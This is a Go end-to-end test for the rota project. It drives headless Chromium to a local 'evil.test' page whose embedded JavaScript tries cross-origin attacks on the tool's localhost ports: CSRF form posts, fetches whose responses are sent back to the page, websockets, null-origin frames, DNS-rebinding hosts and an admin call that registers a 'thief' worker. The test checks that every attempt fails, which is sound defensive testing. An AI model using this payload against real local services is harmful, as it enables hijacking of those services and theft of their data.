//go:build linux

package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/rota-project/rota/internal/test/ports"
)

// page is what a web site on another origin does to whoever visits it: for every
// target a form, fetches, a frame, an image and a websocket. Then it says so.
const page = `<!doctype html><title>a page</title><script>
const targets = %s;
const pause = ms => new Promise(r => setTimeout(r, ms));
const bounded = p => Promise.race([p.catch(() => 0), pause(10000)]);
function frame(name) { const f = document.createElement("iframe"); f.name = name; document.body.append(f); return f; }
async function attack(t, i) {
  frame("f" + i);
  const form = document.createElement("form");
  form.method = "POST"; form.action = t.url; form.target = "f" + i; form.enctype = "text/plain";
  const input = document.createElement("input"); input.name = t.body || "x"; input.value = ""; form.append(input);
  document.body.append(form); form.submit();
  frame("g" + i).src = t.url;
  new Image().src = t.url;
  const all = [
    fetch(t.url, {method: "POST", mode: "no-cors", body: t.body || "x"}),
    fetch(t.url, {method: "POST", mode: "cors", headers: {"Content-Type": "application/json"}, body: t.body || "{}"}),
    fetch(t.url, {mode: "cors"}).then(r => r.text()).then(x => fetch("/read", {method: "POST", body: t.url + " " + x})),
    fetch(t.url, {method: "DELETE", mode: "cors"}),
    new Promise(done => { try { const w = new WebSocket(t.url.replace("http", "ws")); w.onopen = () => fetch("/read", {method: "POST", body: t.url + " websocket"}).then(done); w.onerror = done; } catch (e) { done(); } }),
  ];
  const sandboxed = frame("h" + i);  // its origin is null
  sandboxed.sandbox = "allow-scripts allow-forms";
  sandboxed.srcdoc = "<form method=POST enctype=text/plain action='" + t.url + "'><input name=x></form><script>document.forms[0].submit()<\/script>";
  await Promise.all(all.map(bounded));
}
addEventListener("load", async () => {
  await Promise.all(targets.map(attack));
  await pause(2000);
  await fetch("/done", {method: "POST"});
});
</script><body></body>`

type target struct {
	URL  string `json:"url"`
	Body string `json:"body,omitempty"`
}

// program is where a program is that .ci/install gets. Without it the test is
// skipped, and fails in CI.
func program(t *testing.T, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err == nil {
		return path
	}
	lacking(t, name+" (.ci/install gets it)")
	return ""
}

// lacking skips a test for want of something of the machine. In CI it fails.
func lacking(t *testing.T, what string) {
	t.Helper()
	if os.Getenv("CI") != "" {
		t.Fatalf("in CI there must be %s", what)
	}
	t.Skipf("SKIPPED for want of %s", what)
}

// spawn starts rota and ends it with the test.
func spawn(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.CommandContext(context.WithoutCancel(t.Context()), rotaBin, args...)
	cmd.Env = append(os.Environ(), "XDG_STATE_HOME="+dir, "HOME="+dir)
	var log bytes.Buffer
	cmd.Stderr, cmd.Stdout, cmd.Dir = &log, &log, dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		_ = cmd.Wait()
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		if t.Failed() {
			t.Logf("rota %v:\n%s", args, log.String())
		}
	})
}

func awaitHTTP(t *testing.T, url string) {
	t.Helper()
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if status, _ := fetchText(t, http.MethodGet, url); status == http.StatusOK {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("nothing answers at %s", url)
		}
	}
}

func fetchText(t *testing.T, method, url string) (status int, body string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, url, http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer func() { _ = resp.Body.Close() }()
	b, _ := io.ReadAll(resp.Body) // what came is what there is
	return resp.StatusCode, string(b)
}

// TestAPageOfAnotherOrigin has a real browser visit a page that tries everything on
// every port of rota dev, rota gateway and rota start.
func TestAPageOfAnotherOrigin(t *testing.T) {
	chromium := program(t, "chromium")
	dir := t.TempDir()
	var ran, stolen atomic.Int64
	up := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/run") {
			ran.Add(1)
		}
	}))
	t.Cleanup(up.Close)
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
	t.Cleanup(thief.Close)
	var mu sync.Mutex
	tried := map[string]int{} // what a server that takes everything gets of the same page
	victim := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		tried[r.Method+" "+r.Header.Get("Origin")+" "+r.Header.Get("Upgrade")+" "+r.Header.Get("Sec-Fetch-Dest")]++
	}))
	t.Cleanup(victim.Close)
	start, gw, devHTTP, devGRPC, devGW := ports.Addr(t), ports.Addr(t), ports.Addr(t), ports.Addr(t), ports.Addr(t)
	_, port, _ := net.SplitHostPort(start) // it is one
	write := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	spawn(t, dir, "start", "-c", write("ol.json", `{"port": `+port+`, "workers": ["`+up.URL+`"]}`))
	spawn(t, dir, "gateway", "-c", write("gateway.yaml", "listen: "+gw+"\nworkers: ["+up.URL+"]\n"))
	spawn(t, dir, "dev", "--http", devHTTP, "--grpc", devGRPC, "--gateway", devGW, "--workers", "1")
	calls := ports.Addr(t)
	spawn(t, dir, "worker", "--name", "calls", "--schedulers", devGRPC, "--calls", calls, "--function", "f="+up.URL)
	awaitHTTP(t, "http://"+start+"/status")
	awaitHTTP(t, "http://"+gw+"/status")
	awaitHTTP(t, "http://"+devHTTP+"/readyz")
	awaitHTTP(t, "http://"+calls+"/status")
	targets := []target{{victim.URL + "/", ""}}
	for _, addr := range []string{start, gw, devGW, devHTTP, devGRPC, calls} {
		_, port, _ := net.SplitHostPort(addr)
		for _, host := range []string{"127.0.0.1", "localhost", "rebound.test"} {
			base := "http://" + net.JoinHostPort(host, port)
			if addr == devHTTP || addr == devGRPC {
				targets = append(targets, target{base + "/v1/tasks:apply", `{"tasks":[{"id":"evil"}]}`}, target{base + "/v1/status", ""})
				continue
			}
			targets = append(targets, target{base + "/admin/workers/add?workers=" + thief.URL, ""}, target{base + "/run/f", ""}, target{base + "/t/x", ""})
		}
	}
	list, err := json.Marshal(targets)
	if err != nil {
		t.Fatal(err)
	}
	var read []string
	done := make(chan struct{})
	var once sync.Once
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, page, list)
		case "/read":
			b, _ := io.ReadAll(r.Body) // as above
			mu.Lock()
			read = append(read, string(b))
			mu.Unlock()
		case "/done":
			once.Do(func() { close(done) })
		}
	}))
	t.Cleanup(site.Close)
	_, sitePort, _ := net.SplitHostPort(site.Listener.Addr().String())
	browser := exec.CommandContext(t.Context(), chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--user-data-dir="+filepath.Join(dir, "browser"),
		"--host-resolver-rules=MAP *.test 127.0.0.1", "--remote-debugging-port=0", "http://evil.test:"+sitePort+"/")
	browser.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var log bytes.Buffer
	browser.Stderr, browser.Stdout = &log, &log
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-browser.Process.Pid, syscall.SIGKILL)
		_ = browser.Wait()
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Minute):
		t.Fatalf("the page has not come to its end:\n%s", log.String())
	}
	if n := ran.Load(); n != 0 {
		t.Errorf("the page has run functions %d times", n)
	}
	mu.Lock()
	defer mu.Unlock()
	from := "http://evil.test:" + sitePort
	for _, want := range []string{
		"POST " + from + "  iframe", "POST null  iframe", "POST " + from + "  empty", "GET   iframe", "GET   image", "GET " + from + "  empty", "GET " + from + " websocket ",
	} {
		if tried[want] == 0 {
			t.Errorf("the page has not tried %q, but %v", want, tried)
		}
	}
	for _, r := range read {
		if !strings.Contains(r, `"error"`) || strings.Contains(r, "websocket") {
			t.Errorf("the page has read %.300q", r)
		}
	}
	for _, addr := range []string{start, gw} {
		for range 5 {
			if status, body := fetchText(t, http.MethodPost, "http://"+addr+"/run/f"); status != http.StatusOK {
				t.Errorf("%s: %d %s", addr, status, body)
			}
		}
	}
	if n := ran.Load(); n != 10 {
		t.Errorf("%d of 10 calls reached the worker", n)
	}
	if n := stolen.Load(); n != 0 {
		t.Errorf("the thief got %d calls", n)
	}
	cmd := exec.CommandContext(t.Context(), rotaBin, "task", "get", "evil", "--server", devGRPC)
	cmd.Env = append(os.Environ(), "XDG_STATE_HOME="+dir, "HOME="+dir)
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "evil") {
		t.Errorf("the page has declared a task: %v %s", err, out)
	}
}
